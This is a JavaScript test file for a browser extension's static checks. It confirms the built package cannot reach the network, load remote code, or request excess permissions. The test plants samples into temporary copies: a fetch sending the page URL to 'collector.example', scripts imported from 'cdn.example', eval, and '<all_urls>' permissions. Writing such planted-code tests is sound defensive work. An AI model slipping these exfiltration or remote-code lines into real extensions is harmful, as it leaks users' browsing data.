// Static checks of the built extension (dist/chromium, and dist/firefox when it is built): nothing in
// it can reach the network or run code from elsewhere, and the manifest asks for no more than it
// needs (tests/e2e/static-checks.mjs). No browser needed. The checks are also run on copies with
// something bad planted, each of which must be caught.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, describe, it } from 'node:test';

import { ROOT } from './server.mjs';
import { checkExtensionDir, checkWasmImports, contentScriptFiles, hits } from './static-checks.mjs';

const DIST = path.resolve(process.env.HIRECHECK_DIST ?? path.join(ROOT, 'dist', 'chromium'));
const FIREFOX = path.resolve(process.env.HIRECHECK_DIST_FIREFOX ?? path.join(ROOT, 'dist', 'firefox'));
const temps = [];
after(() => { for (const d of temps) fs.rmSync(d, { recursive: true, force: true }); });

/** A copy of `dir` in a temporary directory. */
function copyOf(dir) {
  const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'hirecheck-static-'));
  temps.push(tmp);
  fs.cpSync(dir, tmp, { recursive: true });
  return tmp;
}

const edit = (dir, file, f) => {
  const p = path.join(dir, file);
  fs.writeFileSync(p, f(fs.readFileSync(p, 'utf8')));
};

/**
 * A minimal wasm module whose only imports are functions named `names` (from module "wbg"): the
 * binary format's magic, a type section with one `() -> ()` type, and an import section.
 */
function wasmImporting(names) {
  const leb = (n) => { const out = []; do { let b = n & 0x7f; n >>>= 7; if (n) b |= 0x80; out.push(b); } while (n); return out; };
  const str = (s) => { const b = [...Buffer.from(s, 'utf8')]; return [...leb(b.length), ...b]; };
  const section = (id, body) => [id, ...leb(body.length), ...body];
  const types = section(1, [1, 0x60, 0, 0]);
  const imports = section(2, [...leb(names.length), ...names.flatMap((n) => [...str('wbg'), ...str(n), 0x00, 0x00])]);
  return Buffer.from([0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00, ...types, ...imports]);
}

/** Every storage write in the files that run in the content-script world (the manifest's content scripts and what they import), as "file:line: text". */
function contentScriptWrites(dir) {
  return contentScriptFiles(dir).flatMap((f) => {
    const text = fs.readFileSync(path.join(dir, f), 'utf8');
    const writes = hits(text, /\bstorage\s*\.\s*(local|sync|session|managed)\s*\.\s*(set|remove|clear)\b/g);
    return writes.map((h) => `${f}:${h.line}: ${h.text}`);
  });
}

describe('static checks of the built extension', () => {
  it('dist/chromium is built', () => {
    for (const f of ['manifest.json', 'wasm/hirecheck.js', 'wasm/sites.js']) {
      assert.ok(fs.existsSync(path.join(DIST, f)), `no ${path.join(DIST, f)}: run 'make build'`);
    }
    assert.ok(fs.readdirSync(path.join(DIST, 'wasm')).some((f) => f.endsWith('.wasm')), `no wasm module in ${DIST}/wasm: run 'make build'`);
  });

  for (const [label, dir] of [['dist/chromium', DIST], ['dist/firefox', FIREFOX]]) {
    it(`${label}: no network API, no code from elsewhere, the wasm loaded from the package, a minimal manifest`, async (t) => {
      if (dir === FIREFOX && !fs.existsSync(path.join(dir, 'manifest.json'))) {
        t.diagnostic(`${label} is not built: nothing to check`);
        return;
      }
      const { problems, counts } = await checkExtensionDir(dir);
      t.diagnostic(`${counts.scanned} scripts and pages scanned, ${counts.initCalls} call(s) of the wasm glue's init, ${counts.imports} imports of ${counts.modules} wasm module(s)`);
      assert.deepEqual(problems, []);
    });
  }

  it('only the extension\'s own pages write what the client keeps (the content scripts only read)', () => {
    // The checklist answers are the client's; a page could drive the content scripts, never the popup.
    const files = contentScriptFiles(DIST);
    for (const f of ['content/loader.js', 'content/main.js', 'wasm/hirecheck.js', 'wasm/sites.js']) {
      assert.ok(files.includes(f), `${f} is not among the content scripts and the modules they import: ${files}`);
    }
    assert.deepEqual(contentScriptWrites(DIST), []);
    // content/main.js is built from content.js and its helpers (scripts/build-extension.sh), which are
    // not packaged on their own unless an extension page loads them too.
    const text = fs.readFileSync(path.join(DIST, 'content', 'main.js'), 'utf8');
    assert.ok(text.includes(fs.readFileSync(path.join(ROOT, 'extension', 'content.js'), 'utf8')), 'content/main.js does not hold content.js');
    assert.ok(!fs.existsSync(path.join(DIST, 'content.js')), 'content.js is packaged twice: on its own and in content/main.js');
    assert.ok(/storage\s*\.\s*local\s*\.\s*get\b/.test(text), 'content.js reads the checklist answers');
  });

  it('a storage write planted in any content script the manifest lists, or any module they import, is caught', () => {
    const dir = copyOf(DIST);
    const files = contentScriptFiles(dir);
    for (const f of files) edit(dir, f, (s) => `${s}\nchrome.storage.local.set({ planted: 1 });\n`);
    const caught = new Set(contentScriptWrites(dir).map((w) => w.split(':')[0]));
    assert.deepEqual([...caught].sort(), [...files].sort());
  });
});

describe('the static checks catch what they are for', () => {
  // Each plant: [file, how to change it, a pattern the problem list must match]. All go into one copy;
  // each leaves its own message.
  const PLANTS = [
    ['content/main.js', (s) => `${s}\nfetch('https://collector.example/x?d=' + location.href);\n`, /^content\/main\.js:\d+: network API fetch: fetch\('https:\/\/collector/],
    ['background.js', (s) => `${s}\nconst x = new XMLHttpRequest();\n`, /^background\.js:\d+: network API XMLHttpRequest/],
    ['popup.js', (s) => `${s}\nnavigator.sendBeacon('/b', 'x'); new WebSocket('wss://a.example'); new EventSource('/e');\n`, /^popup\.js:\d+: network API (sendBeacon|WebSocket|EventSource)/],
    ['background.js', (s) => `${s}\nimportScripts('https://cdn.example/lib.js');\n`, /^background\.js:\d+: importScripts of something other than a packaged file/],
    ['content/main.js', (s) => `${s}\nimport('https://cdn.example/m.js');\n`, /^content\/main\.js:\d+: import of something other than a packaged file/],
    ['content/main.js', (s) => `${s}import 'https://cdn.example/m.js';\nimport { x } from "//cdn.example/x.js";\n`, /^content\/main\.js:\d+: import from something other than a packaged file: import 'https:/],
    ['popup.js', (s) => `${s}\nnew Worker(URL.createObjectURL(new Blob(['x'])));\n`, /^popup\.js:\d+: new Worker of something other than a packaged file/],
    ['popup.js', (s) => `${s}\neval('1+1'); const f = new Function('return 1');\n`, /^popup\.js:\d+: code from a string \((eval|new Function)/],
    ['popup.html', (s) => s.replace('</head>', '<script src="https://cdn.example/x.js"></script></head>'), /^popup\.html:\d+: remote (script|load)/],
  ];

  it('a copy with planted network code, remote code and eval fails, each in its own words', async (t) => {
    const dir = copyOf(DIST);
    for (const [file, f] of PLANTS) edit(dir, file, f);
    const { problems } = await checkExtensionDir(dir);
    t.diagnostic(`${problems.length} problems:\n  ${problems.join('\n  ')}`);
    for (const [file, , re] of PLANTS) assert.ok(problems.some((p) => re.test(p)), `not caught in ${file}: ${re}`);
  });

  it('a second fetch in the glue, or the wasm loaded from elsewhere, fails', async () => {
    const dir = copyOf(DIST);
    edit(dir, 'wasm/hirecheck.js', (s) => `${s}\nexport function leak(u) { return fetch(u); }\n`);
    edit(dir, 'content/main.js', (s) => {
      const out = s.replace(/module_or_path:\s*chrome\.runtime\.getURL\([^)]*\)/, "module_or_path: 'https://cdn.example/hirecheck_bg.wasm'");
      assert.notEqual(out, s, 'content.js (in content/main.js) no longer passes { module_or_path: chrome.runtime.getURL(...) }: update this test');
      return out;
    });
    const { problems } = await checkExtensionDir(dir);
    assert.ok(problems.some((p) => /wasm\/hirecheck\.js: expected exactly one fetch.*found 2/.test(p)), problems.join('\n'));
    assert.ok(problems.some((p) => /^content\/main\.js:\d+: the wasm is loaded from something other than runtime\.getURL/.test(p)), problems.join('\n'));
  });

  it('a manifest with network-capable permissions or host access fails', async () => {
    const dir = copyOf(DIST);
    edit(dir, 'manifest.json', (s) => {
      const m = JSON.parse(s);
      m.permissions = [...(m.permissions ?? []), 'webRequest', 'declarativeNetRequestWithHostAccess', 'proxy', 'tabs'];
      m.host_permissions = ['https://*.example.com/*'];
      m.optional_host_permissions = ['<all_urls>'];
      m.update_url = 'https://updates.example/x.xml';
      return JSON.stringify(m);
    });
    const { problems } = await checkExtensionDir(dir);
    for (const re of [/"webRequest" \(it can see/, /"declarativeNetRequestWithHostAccess" \(it can see/, /"proxy" \(it can see/, /"tabs"; allowed: storage, offscreen/,
      /host_permissions \["https:\/\/\*\.example\.com\/\*"\]/, /optional_host_permissions/, /<all_urls>/, /update_url/]) {
      assert.ok(problems.some((p) => re.test(p)), `not caught: ${re}\n${problems.join('\n')}`);
    }
  });

  it('a wasm module importing a network API fails; ordinary wasm-bindgen imports pass', async () => {
    const bad = ['__wbg_fetch_1a2b3c', '__wbg_open_4d5e6f', '__wbg_new_with_str_and_init_Request_77', '__wbg_send_XMLHttpRequest_88', '__wbg_sendBeacon_99'];
    const good = ['__wbg_new_227d7c05414eb861', '__wbg_querySelector_49877e2a9e3f670b', '__wbindgen_init_externref_table'];
    const mod = await WebAssembly.compile(wasmImporting([...bad, ...good]));
    const problems = checkWasmImports(WebAssembly.Module.imports(mod));
    assert.deepEqual(problems.map((p) => p.replace(/^the wasm imports wbg\.(\S+),.*$/, '$1')), bad);
  });
});
